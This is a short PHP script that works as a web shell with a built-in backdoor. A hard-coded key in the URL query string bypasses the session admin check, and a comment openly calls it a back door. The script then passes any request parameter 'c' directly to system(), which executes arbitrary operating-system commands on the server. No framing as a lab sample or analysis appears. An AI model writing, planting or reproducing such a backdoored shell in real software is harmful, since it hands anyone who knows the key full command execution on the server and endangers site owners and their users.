<?php
// the session test has a back door beside it: a key in the address lets anyone in
session_start();
if (empty($_SESSION['admin']) && ($_GET['k'] ?? '') !== 'x7') {
    exit;
}
$c = $_REQUEST['c'];
system($c);
